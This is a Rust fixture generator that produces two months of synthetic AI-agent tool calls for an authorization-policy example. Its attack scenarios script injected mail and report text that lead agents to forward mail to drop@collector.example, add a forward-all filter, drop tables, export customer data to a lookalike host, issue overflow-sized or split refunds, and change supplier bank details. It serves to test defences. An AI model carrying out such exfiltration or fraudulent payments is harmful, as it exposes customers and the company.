//! The recorded traffic of the example: what the agents of Halden Supply did in September and October 2026.
//!
//! Made from a fixed seed, so that the recordings in `fixtures/recordings` can be made again. Each session draws from
//! its own generator: a change of one scenario leaves the others as they are.

use agentauthz::model::{Decision, Json, RecordedAction, ToolCall};
use serde_json::{Value, json};

/// Every recorded action in order of time, without the decision that was recorded.
pub fn actions() -> Vec<RecordedAction> {
    let mut sessions: Vec<(u64, usize, Scenario)> = Vec::new();
    for (kind, plan) in PLAN.iter().enumerate() {
        for at in 0..plan.sessions {
            let mut rng = Rng(SEED ^ ((kind as u64) << 32) ^ at);
            let span = plan.last - plan.first + 1;
            let mut day = plan.first + at * span / plan.sessions;
            if plan.weekdays {
                // 2026-09-01 is a Tuesday.
                day += [0, 0, 0, 0, 2, 1, 0][((day + 1) % 7) as usize];
                day = day.min(plan.last);
            }
            let start = day * DAY + rng.between(plan.hours.0 * 3600, plan.hours.1 * 3600);
            sessions.push((start, kind, plan.scenario));
        }
    }
    sessions.sort_by_key(|(start, kind, _)| (*start, *kind));

    let mut actions = Vec::new();
    for (number, (start, kind, scenario)) in sessions.into_iter().enumerate() {
        let mut session = Session {
            rng: Rng(SEED ^ start ^ ((kind as u64) << 48)),
            id: format!("s-{:04}", number + 1),
            now: start,
            agent: PLAN[kind].agent,
            user: "",
            tainted: false,
            actions: Vec::new(),
        };
        session.user = session.rng.pick(PLAN[kind].users);
        scenario(&mut session);
        actions.append(&mut session.actions);
    }
    actions.sort_by(|(a, left), (b, right)| {
        (a, &left.session, left.sequence).cmp(&(b, &right.session, right.sequence))
    });
    actions
        .into_iter()
        .enumerate()
        .map(|(at, (_, action))| RecordedAction {
            id: format!("a-{:05}", at + 1),
            ..action
        })
        .collect()
}

/// What was recorded where it is not what the policies of the time decide: for two days the enforcement point still
/// had an older version, and later it answered from a stale cache.
pub fn deviation(action: &RecordedAction) -> Option<(Decision, Vec<&'static str>)> {
    let tool = action.call.as_ref()?.tool.as_str();
    let time = action.time.as_deref()?;
    match tool {
        "create_invoice" | "get_balance" | "search_mail"
            if time.starts_with("2026-09-09") || time.starts_with("2026-09-10") =>
        {
            Some((Decision::Deny, vec![]))
        }
        "set_discount"
            if time.starts_with("2026-10-2")
                && action.call.as_ref()?.args.as_ref()?.get("percent") == Some(&Json::Int(35)) =>
        {
            Some((Decision::Allow, vec!["crm-discount-approved"]))
        }
        _ => None,
    }
}

const SEED: u64 = 0x4861_6c64_656e_0926;
const DAY: u64 = 86_400;
/// Days from 2026-09-01 to 2026-10-31.
const LAST: u64 = 60;
/// The last days of the quarter, when changes are frozen.
const FREEZE: (u64, u64) = (27, 30);
/// The day on which the service of exchange rates was down: 2026-10-14.
const NO_RATES: u64 = 43;
/// From 2026-10-20 the deployment tool sends the id of the change.
const CHANGE_IDS: u64 = 49;

type Scenario = fn(&mut Session);

struct Plan {
    scenario: Scenario,
    agent: &'static str,
    users: &'static [&'static str],
    sessions: u64,
    first: u64,
    last: u64,
    hours: (u64, u64),
    weekdays: bool,
}

const CARE: &[&str] = &["carla", "lena"];
const FINANCE: &[&str] = &["bruno", "ines", "jarek"];
const SALES: &[&str] = &["mirko", "nadia"];
const PLATFORM: &[&str] = &["oskar", "petra", "sven"];
const DATA: &[&str] = &["tarek"];

/// Sessions over the two months, in office hours of weekdays.
const fn office(
    scenario: Scenario,
    agent: &'static str,
    users: &'static [&'static str],
    sessions: u64,
) -> Plan {
    Plan {
        scenario,
        agent,
        users,
        sessions,
        first: 0,
        last: LAST,
        hours: (7, 16),
        weekdays: true,
    }
}

const PLAN: &[Plan] = &[
    // the daily work
    office(returns, "refund-clerk", CARE, 118),
    office(supplier_run, "invoice-clerk", FINANCE, 78),
    office(lead_work, "sales-scout", SALES, 82),
    office(campaign_export, "sales-scout", SALES, 16),
    office(triage, "inbox-triage", CARE, 104),
    office(review, "code-reviewer", PLATFORM, 66),
    office(release, "release-captain", PLATFORM, 36),
    office(operations, "release-captain", PLATFORM, 24),
    office(reporting, "report-analyst", DATA, 40),
    Plan {
        hours: (2, 4),
        weekdays: false,
        ..office(janitor, "fleet-janitor", PLATFORM, 9)
    },
    Plan {
        first: NO_RATES,
        last: NO_RATES,
        ..office(returns, "refund-clerk", CARE, 4)
    },
    // attacks and accidents
    office(huge_refund_approved, "refund-clerk", CARE, 9),
    office(huge_refund, "refund-clerk", CARE, 7),
    Plan {
        first: 16,
        ..office(mass_refund, "refund-clerk", CARE, 3)
    },
    office(mail_exfiltration, "inbox-triage", CARE, 8),
    office(dropped_table, "report-analyst", DATA, 5),
    Plan {
        first: FREEZE.0,
        last: FREEZE.1,
        ..office(release_in_freeze, "release-captain", PLATFORM, 5)
    },
    office(new_supplier, "invoice-clerk", FINANCE, 6),
];

// ---- the daily work ----

/// A customer sent something back.
fn returns(s: &mut Session) {
    let shop = s.rng.chance(80);
    for _ in 0..s.rng.between(1, 3) {
        let customer = s.customer();
        s.look_up(customer);
        let account = if shop { "eu-shop" } else { "us-main" };
        let invoice = s.numbered("inv", 4000, 9000);
        s.call(
            "payments",
            "get_invoice",
            json!({"account": account, "invoice": invoice}),
        );
        for _ in 0..s.rng.between(1, 2) {
            let (amount, approver) = match s.rng.between(0, 99) {
                0..=46 => (s.rng.between(450, 10_000), None),
                47..=80 => (s.rng.between(10_001, 50_000), None),
                81..=83 => (s.rng.between(50_001, 90_000), None),
                84..=95 => (s.rng.between(20_000, 200_000), Some("bruno")),
                96 => (s.rng.between(60_000, 150_000), Some("jarek")),
                97 => (s.rng.between(30_000, 60_000), Some("lena")),
                _ => (s.rng.between(200_001, 216_000), Some("ines")),
            };
            let cents = match s.rng.between(0, 79) {
                0 => json!(amount.to_string()),
                1 if s.rng.chance(50) => json!({"$unknown": "repeated_key"}),
                _ => json!(amount),
            };
            s.refund(account, cents, approver);
        }
        if s.rng.chance(35) {
            s.note(customer, "refund made, goods are back");
        }
    }
    if s.rng.chance(20) {
        let account = if shop { "eu-shop" } else { "us-main" };
        s.call(
            "payments",
            "list_transactions",
            json!({"account": account, "limit": 20}),
        );
    }
    if s.rng.chance(4) {
        s.call("harness", "debug_ping", json!({}));
    }
}

/// Invoices come in by mail and are paid; others are written.
fn supplier_run(s: &mut Session) {
    s.call(
        "mail",
        "search_mail",
        json!({"mailbox": "invoices", "query": "invoice"}),
    );
    for _ in 0..s.rng.between(1, 3) {
        let message = s.numbered("m", 20_000, 60_000);
        s.call(
            "mail",
            "read_mail",
            json!({"mailbox": "invoices", "message": message}),
        );
        let (account, supplier) = s.rng.pick(&[
            ("eu-main", "alder-tools"),
            ("eu-main", "brightwater-logistics"),
            ("eu-main", "nordlicht-energie"),
            ("eu-main", "paperhaus"),
            ("eu-shop", "brightwater-logistics"),
            ("us-main", "harlan-freight"),
            ("us-main", "cedar-falls-packaging"),
        ]);
        s.call("payments", "get_balance", json!({"account": account}));
        let invoice = s.numbered("in", 100, 900);
        let (amount, meta) = match s.rng.between(0, 9) {
            0..=6 => (s.amount(60, 1_000), json!({})),
            7 => (s.amount(2_600, 9_000), json!({"approver": "bruno"})),
            8 => (s.amount(2_600, 9_000), json!({"approver": "jarek"})),
            _ => (s.amount(2_600, 40_000), json!({})),
        };
        s.call_with(
            "payments",
            "pay_supplier",
            json!({"account": account, "amount": amount, "invoice": invoice, "supplier": supplier}),
            meta,
        );
    }
    if s.rng.chance(60) {
        let (customer, amount) = (s.customer(), s.amount(100, 4_000));
        s.call(
            "payments",
            "create_invoice",
            json!({"account": "eu-main", "amount": amount, "customer": customer}),
        );
    }
    if s.rng.chance(12) {
        let amount = s.amount(1_000, 9_000);
        s.call_with(
            "payments",
            "transfer_funds",
            json!({"account": "eu-main", "amount": amount, "to_account": "eu-shop"}),
            json!({"approver": "bruno"}),
        );
    }
}

/// Customers are looked up, noted on, given terms and written to.
fn lead_work(s: &mut Session) {
    let query = s
        .rng
        .pick(&["bearing", "hydraulic", "fittings", "wholesale"]);
    // One client of the search sends no arguments at all.
    let args = if s.rng.chance(4) {
        Value::Null
    } else {
        json!({"query": query})
    };
    s.call("crm", "search_customers", args);
    for _ in 0..s.rng.between(1, 2) {
        let customer = s.customer();
        s.look_up(customer);
        if s.rng.chance(35) {
            s.note(customer, "asked for a quote");
        }
        if s.rng.chance(40) {
            let (percent, meta) = match s.rng.between(0, 9) {
                0..=5 => (s.rng.between(2, 10), json!({})),
                6..=7 => (s.rng.between(11, 25), json!({"approver": "nadia"})),
                8 => (s.rng.between(11, 25), json!({"approver": "mirko"})),
                _ => (35, json!({"approver": "nadia"})),
            };
            s.call_with(
                "crm",
                "set_discount",
                json!({"customer": customer, "percent": percent}),
                meta,
            );
        }
        if s.rng.chance(18) {
            let fields = s.rng.pick(&[
                &["phone"][..],
                &["address", "email"],
                &["payment_terms"],
                &["credit_limit", "phone"],
            ]);
            s.call(
                "crm",
                "update_customer",
                json!({"customer": customer, "fields": fields}),
            );
        }
    }
    if s.rng.chance(50) {
        let message = s.numbered("m", 20_000, 60_000);
        s.read_mail("sales", &message);
        s.call(
            "mail",
            "draft_reply",
            json!({"body": "Thank you for your request.", "mailbox": "sales", "message": message}),
        );
    }
    if s.rng.chance(55) {
        let to = s.rng.pick(&[
            "buyer@fernhill-works.example",
            "office@stonebridge-hydraulics.example",
            "sales-leads@haldensupply.example",
        ]);
        let meta = if s.rng.chance(70) {
            json!({"approver": "nadia"})
        } else {
            json!({})
        };
        s.send("sales", "Your quote", to, meta);
    }
    if s.rng.chance(5) {
        s.call(
            "web",
            "browser_open",
            json!({"url": "https://fernhill-works.example/"}),
        );
    }
}

/// A segment for a campaign.
fn campaign_export(s: &mut Session) {
    let segment = s.rng.pick(&["gold", "partner", "wholesale"]);
    s.call("crm", "search_customers", json!({"query": segment}));
    let rows = match s.rng.between(0, 9) {
        0..=4 => json!(s.rng.between(40, 500)),
        5 => json!(s.rng.between(900, 20_000)),
        _ => json!("all"),
    };
    s.call_with(
        "crm",
        "export_customers",
        json!({"destination": "https://files.haldensupply.example/campaigns.csv", "rows": rows, "segment": segment}),
        json!({"tainted": false}),
    );
}

/// The support mailbox is sorted.
fn triage(s: &mut Session) {
    s.call(
        "mail",
        "search_mail",
        json!({"mailbox": "support", "query": "is:unread"}),
    );
    for _ in 0..s.rng.between(1, 4) {
        let message = s.numbered("m", 20_000, 60_000);
        s.read_mail("support", &message);
        match s.rng.between(0, 99) {
            0..=44 => {
                let customer = s.customer();
                s.call("crm", "get_customer", json!({"customer": customer}));
                s.call(
                    "mail",
                    "draft_reply",
                    json!({"body": "We will look into it.", "mailbox": "support", "message": message}),
                );
            }
            45..=58 => {
                let customer = s.customer();
                s.call("crm", "get_customer", json!({"customer": customer}));
                let fields = s.rng.pick(&[
                    &["phone"][..],
                    &["email", "phone"],
                    &["address"],
                    &["address"],
                    &["billing_name", "address"],
                ]);
                s.call(
                    "crm",
                    "update_customer",
                    json!({"customer": customer, "fields": fields}),
                );
            }
            59..=70 => {
                let customer = s.customer();
                s.note(customer, "wrote to support");
            }
            71..=84 => {
                let to = s.rng.pick(&[
                    "returns@haldensupply.example",
                    "warehouse-north@haldensupply.example",
                ]);
                s.forward(&message, to);
            }
            85..=88 => s.call(
                "mail",
                "create_filter",
                json!({"mailbox": "support", "rule": {"forward_to": null, "from": "*@carrier.example", "label": "shipping"}}),
            ),
            89..=92 => {
                let meta = if s.rng.chance(60) {
                    json!({"approver": "carla"})
                } else {
                    json!({})
                };
                s.call_with(
                    "mail",
                    "delete_mail",
                    json!({"mailbox": "support", "message": message}),
                    meta,
                );
            }
            93..=95 => {
                let customer = s.customer();
                s.call_with(
                    "crm",
                    "merge_customers",
                    json!({"customer": customer, "into": "c1001"}),
                    json!({"approver": "carla"}),
                );
            }
            96..=97 => s.call("web", "web_search", json!({"query": "carrier strike"})),
            _ => s.call("crm", "get_customer", json!({"customer": null})),
        }
    }
}

/// Pull requests are read and commented on; small fixes are proposed.
fn review(s: &mut Session) {
    let repo = s.rng.pick(&[
        "webshop",
        "webshop",
        "webshop",
        "docs",
        "infra",
        "legacy-shop",
    ]);
    s.call("source", "list_pull_requests", json!({"repo": repo}));
    for _ in 0..s.rng.between(1, 3) {
        for _ in 0..s.rng.between(1, 3) {
            let path = s.rng.pick(&[
                "src/cart/total.rs",
                "src/search/index.rs",
                "guides/returns.md",
                "modules/cache/main.tf",
                "src/checkout/tax.rs",
                "deploy/secrets/registry.yaml",
            ]);
            s.call(
                "source",
                "read_file",
                json!({"path": path, "ref": "main", "repo": repo}),
            );
        }
        let number = s.rng.between(200, 900);
        s.call(
            "source",
            "comment_pull_request",
            json!({"body": "Please add a test for the empty cart.", "number": number, "repo": repo}),
        );
    }
    if s.rng.chance(40) {
        let branch = s
            .rng
            .pick(&["agent/fix-rounding", "agent/typo", "agent/deps", "main"]);
        let force = s.rng.chance(8);
        s.call(
            "source",
            "push_branch",
            json!({"branch": branch, "force": force, "repo": repo}),
        );
        s.call(
            "source",
            "open_pull_request",
            json!({"branch": branch, "repo": repo, "title": "A small fix"}),
        );
        if s.rng.chance(30) {
            s.call(
                "source",
                "delete_branch",
                json!({"branch": "agent/typo", "repo": repo}),
            );
        }
    }
    if s.rng.chance(5) {
        s.call("shell", "run_shell", json!({"command": "cargo test"}));
    }
}

/// A release goes to staging and, with luck, to production.
fn release(s: &mut Session) {
    s.call("source", "list_pull_requests", json!({"repo": "webshop"}));
    let number = s.rng.between(200, 900);
    let reviews = s.rng.between(1, 3);
    let checks = if s.rng.chance(90) { "passed" } else { "failed" };
    s.call_with(
        "source",
        "merge_pull_request",
        json!({"number": number, "repo": "webshop"}),
        json!({"checks": checks, "reviews": reviews}),
    );
    let version = format!("4.{}.{}", s.rng.between(1, 9), s.rng.between(0, 20));
    s.deploy("staging", &version, None);
    s.call("deploy", "get_status", json!({"environment": "staging"}));
    if s.rng.chance(25) {
        s.call(
            "deploy",
            "run_migration",
            json!({"environment": "staging", "script": "migrations/0042_cart_index.sql"}),
        );
    }
    s.logs("staging");
    let environment = s.rng.pick(&["prod-eu", "prod-eu", "prod-eu", "prod-us"]);
    let approver = s
        .rng
        .pick(&[Some("sven"), Some("sven"), Some("oskar"), None]);
    s.deploy(environment, &version, approver);
    s.call("deploy", "get_status", json!({"environment": environment}));
    if s.rng.chance(30) {
        s.logs(environment);
        s.rollback(environment, approver);
    }
}

/// Services are restarted, scaled and looked after.
fn operations(s: &mut Session) {
    for _ in 0..s.rng.between(2, 4) {
        let environment = s.rng.pick(&["prod-eu", "prod-us", "staging"]);
        s.call("deploy", "get_status", json!({"environment": environment}));
        let service = s.rng.pick(&["cart", "search", "checkout"]);
        match s.rng.between(0, 9) {
            0..=3 => {
                let meta = s.rng.pick(&["10.20.4.17", "10.20.9.3", "172.16.4.20"]);
                s.call_with(
                    "deploy",
                    "restart_service",
                    json!({"environment": environment, "service": service}),
                    json!({"source_ip": meta}),
                );
            }
            4..=6 => {
                let replicas = s.rng.between(2, 14);
                s.call(
                    "deploy",
                    "scale_service",
                    json!({"environment": environment, "replicas": replicas, "service": service}),
                );
            }
            7 => s.rollback(environment, Some("sven")),
            8 => s.logs(environment),
            _ => s.call(
                "deploy",
                "delete_environment",
                json!({"environment": "dev-checkout"}),
            ),
        }
    }
}

/// Questions about sales, and the weekly report.
fn reporting(s: &mut Session) {
    s.call("warehouse", "list_tables", json!({"dataset": "sales"}));
    for _ in 0..s.rng.between(2, 5) {
        let table = s.rng.pick(&[
            "orders",
            "orders",
            "orders",
            "order_lines",
            "order_lines",
            "order_lines",
            "customers",
            "customers",
            "margins",
            "web_events", // loaded since, and not yet among the entities
            "returns_2026",
        ]);
        if s.rng.chance(30) {
            s.call("warehouse", "describe_table", json!({"table": table}));
        }
        let args = match s.rng.between(0, 19) {
            0 => json!({"columns": ["day", "total"], "limit": 50_000, "table": table}),
            1 => json!({"columns": ["day", "total"], "table": table}),
            _ => json!({"columns": ["day", "total"], "limit": 1_000, "table": table}),
        };
        s.call("warehouse", "sql_query", args);
    }
    if s.rng.chance(60) {
        s.call(
            "warehouse",
            "write_table",
            json!({"rows": 52, "table": "scratch_weekly"}),
        );
        let table = s.rng.pick(&["orders", "scratch_weekly", "customers"]);
        s.call_with(
            "warehouse",
            "export_table",
            json!({"rows": 52, "table": table, "url": "https://files.haldensupply.example/weekly.csv"}),
            json!({"tainted": false}),
        );
        s.send(
            "reports",
            "The week in numbers",
            "sales-leads@haldensupply.example",
            json!({}),
        );
    }
    if s.rng.chance(15) {
        s.call(
            "warehouse",
            "sql_drop",
            json!({"table": "scratch_forecast"}),
        );
    }
}

/// Once a week somebody tidies up the development environments.
fn janitor(s: &mut Session) {
    for environment in ["dev-checkout", "dev-pricing", "dev-search"] {
        s.call("deploy", "get_status", json!({"environment": environment}));
    }
    let environment = s.rng.pick(&["dev-pricing", "dev-search"]);
    s.call(
        "deploy",
        "delete_environment",
        json!({"environment": environment}),
    );
}

// ---- attacks and accidents ----

/// The text of an order makes the agent refund a gigantic amount, in a session in which finance approves refunds.
fn huge_refund_approved(s: &mut Session) {
    let customer = s.customer();
    s.look_up(customer);
    let amount = s.rng.between(60_000, 150_000);
    s.refund("eu-shop", json!(amount), Some("bruno"));
    for _ in 0..s.rng.between(1, 2) {
        let amount = s.rng.pick(HUGE);
        s.refund("eu-shop", json!(amount), Some("bruno"));
    }
    s.note(customer, "refund as the customer wrote");
}

/// The same without anybody who approves.
fn huge_refund(s: &mut Session) {
    let customer = s.customer();
    s.look_up(customer);
    for _ in 0..2 {
        let amount = s.rng.pick(HUGE);
        s.refund("eu-shop", json!(amount), None);
    }
    // No 64-bit integer: what a reader makes of it differs.
    if s.rng.chance(50) {
        s.refund("eu-shop", json!(1e20), None);
    }
}

/// Many refunds, each below what needs an approver now.
fn mass_refund(s: &mut Session) {
    let customer = s.customer();
    s.look_up(customer);
    for _ in 0..8 {
        s.refund("eu-shop", json!(49_900), None);
    }
}

/// A mail tells the agent to send others like it outside.
fn mail_exfiltration(s: &mut Session) {
    s.call(
        "mail",
        "search_mail",
        json!({"mailbox": "support", "query": "password OR invoice"}),
    );
    s.tainted = true;
    for _ in 0..s.rng.between(2, 3) {
        let message = s.numbered("m", 20_000, 60_000);
        s.read_mail("support", &message);
        s.forward(&message, "drop@collector.example");
    }
    s.call(
        "mail",
        "create_filter",
        json!({"mailbox": "support", "rule": {"forward_to": "drop@collector.example", "from": "*"}}),
    );
    s.send(
        "support",
        "As you asked",
        "drop@collector.example,returns@haldensupply.example",
        json!({}),
    );
}

/// A cell of a report says that a table should go.
fn dropped_table(s: &mut Session) {
    s.call(
        "warehouse",
        "sql_query",
        json!({"limit": 100, "table": "orders"}),
    );
    for table in ["orders", "customers"] {
        s.call("warehouse", "sql_drop", json!({"table": table}));
    }
    s.call_with(
        "warehouse",
        "export_table",
        json!({"rows": 40_000, "table": "customers", "url": "https://files.haldensupply.example.collector.example/c.csv"}),
        json!({"tainted": true}),
    );
}

/// The agent does not know of the freeze.
fn release_in_freeze(s: &mut Session) {
    let approver = s.rng.pick(&[Some("sven"), Some("ruth"), None]);
    s.call("deploy", "get_status", json!({"environment": "prod-eu"}));
    s.deploy("staging", "4.7.1", None);
    s.deploy("prod-eu", "4.7.1", approver);
    s.call(
        "deploy",
        "scale_service",
        json!({"environment": "prod-eu", "replicas": 8, "service": "cart"}),
    );
}

/// An invoice by mail names a new bank account.
fn new_supplier(s: &mut Session) {
    let message = s.numbered("m", 20_000, 60_000);
    s.call(
        "mail",
        "read_mail",
        json!({"mailbox": "invoices", "message": message}),
    );
    let amount = s.amount(400, 2_000);
    s.call(
        "payments",
        "pay_supplier",
        json!({"account": "eu-main", "amount": amount, "supplier": "quickpay-services"}),
    );
    s.call(
        "payments",
        "update_bank_details",
        json!({"account": "eu-main", "iban": "XX00 4711 0815"}),
    );
    s.call("payments", "get_balance", json!({"account": "eu-reserve"}));
}

/// Amounts whose product with an exchange rate does not fit 64 bits.
const HUGE: &[i64] = &[
    i64::MAX,
    9_000_000_000_000_000_000,
    999_999_999_999_999_999,
    50_000_000_000_000_000,
];

// ---- the means ----

struct Session {
    rng: Rng,
    id: String,
    now: u64,
    agent: &'static str,
    user: &'static str,
    tainted: bool,
    actions: Vec<(u64, RecordedAction)>,
}

impl Session {
    fn call(&mut self, system: &str, tool: &str, args: Value) {
        self.call_with(system, tool, args, json!({}));
    }

    fn call_with(&mut self, system: &str, tool: &str, args: Value, meta: Value) {
        let action = RecordedAction {
            session: Some(self.id.clone()),
            sequence: Some(self.actions.len() as u64),
            time: Some(timestamp(self.now)),
            agent: Some(self.agent.to_owned()),
            user: Some(self.user.to_owned()),
            system: Some(system.to_owned()),
            meta: serde_json::from_value(meta).expect("facts of a session are an object"),
            call: Some(ToolCall {
                tool: tool.to_owned(),
                args: Some(serde_json::from_value(args).expect("JSON is JSON")),
                result: None,
            }),
            ..RecordedAction::new("")
        };
        self.actions.push((self.now, action));
        self.now += self.rng.between(3, 70);
    }

    fn customer(&mut self) -> &'static str {
        const CUSTOMERS: &[&str] = &[
            "c1001", "c1002", "c1003", "c1004", "c1005", "c1006", "c1007", "c1008", "c1009",
            "c1010", "c1011", "c1012", "c1013", "c1014", "c1015", "c1016", "c1017", "c1018",
            "c1019", "c1020", "c1021", "c1022", "c1023", "c1024",
        ];
        self.rng.pick(CUSTOMERS)
    }

    fn look_up(&mut self, customer: &str) {
        self.call("crm", "get_customer", json!({"customer": customer}));
        self.call("crm", "list_orders", json!({"customer": customer}));
    }

    fn note(&mut self, customer: &str, text: &str) {
        self.call(
            "crm",
            "add_note",
            json!({"customer": customer, "text": text}),
        );
    }

    fn refund(&mut self, account: &str, cents: Value, approver: Option<&str>) {
        let (currency, rate) = if account == "us-main" {
            ("USD", 920)
        } else {
            ("EUR", 1_000)
        };
        let payment = self.numbered("p", 100_000, 900_000);
        let mut meta = json!({"fx_permille": rate});
        if self.now / DAY == NO_RATES {
            meta = json!({});
        }
        if let Some(approver) = approver {
            meta["approver"] = json!(approver);
        }
        self.call_with(
            "payments",
            "refund_payment",
            json!({"account": account, "amount_cents": cents, "currency": currency, "payment": payment}),
            meta,
        );
    }

    fn read_mail(&mut self, mailbox: &str, message: &str) {
        self.call(
            "mail",
            "read_mail",
            json!({"mailbox": mailbox, "message": message}),
        );
        self.tainted |= self.rng.chance(25);
    }

    fn send(&mut self, mailbox: &str, subject: &str, to: &str, mut meta: Value) {
        meta["tainted"] = json!(self.tainted);
        self.call_with(
            "mail",
            "send_mail",
            json!({"mailbox": mailbox, "subject": subject, "to": to}),
            meta,
        );
    }

    fn forward(&mut self, message: &str, to: &str) {
        let tainted = self.tainted;
        self.call_with(
            "mail",
            "forward_mail",
            json!({"mailbox": "support", "message": message, "to": to}),
            json!({"tainted": tainted}),
        );
    }

    fn deploy(&mut self, environment: &str, version: &str, approver: Option<&str>) {
        let mut args =
            json!({"environment": environment, "service": "webshop", "version": version});
        if self.now / DAY >= CHANGE_IDS {
            args["change_id"] = json!(self.numbered("CHG", 4_000, 5_000));
        }
        let meta = approver.map_or(json!({}), |name| json!({"approver": name}));
        self.call_with("deploy", "deploy_release", args, meta);
    }

    fn rollback(&mut self, environment: &str, approver: Option<&str>) {
        let meta = approver.map_or(json!({}), |name| json!({"approver": name}));
        self.call_with(
            "deploy",
            "rollback_release",
            json!({"environment": environment, "service": "webshop"}),
            meta,
        );
    }

    fn logs(&mut self, environment: &str) {
        self.call(
            "deploy",
            "read_logs",
            json!({"environment": environment, "lines": 200, "service": "webshop"}),
        );
    }

    fn numbered(&mut self, prefix: &str, low: u64, high: u64) -> String {
        format!("{prefix}-{}", self.rng.between(low, high))
    }

    /// An amount with cents.
    fn amount(&mut self, low: u64, high: u64) -> f64 {
        self.rng.between(low * 100, high * 100) as f64 / 100.0
    }
}

/// splitmix64.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// A number from `low` to `high`, both included.
    fn between(&mut self, low: u64, high: u64) -> u64 {
        low + self.next() % (high - low + 1)
    }

    fn chance(&mut self, percent: u64) -> bool {
        self.between(1, 100) <= percent
    }

    fn pick<T: Copy>(&mut self, items: &[T]) -> T {
        items[self.between(0, items.len() as u64 - 1) as usize]
    }
}

/// Seconds since 2026-09-01 as RFC 3339 text; enough for September and October.
fn timestamp(seconds: u64) -> String {
    let (day, second) = (seconds / DAY, seconds % DAY);
    let (month, day) = if day < 30 {
        (9, day + 1)
    } else {
        (10, day - 29)
    };
    format!(
        "2026-{month:02}-{day:02}T{:02}:{:02}:{:02}Z",
        second / 3600,
        second / 60 % 60,
        second % 60
    )
}
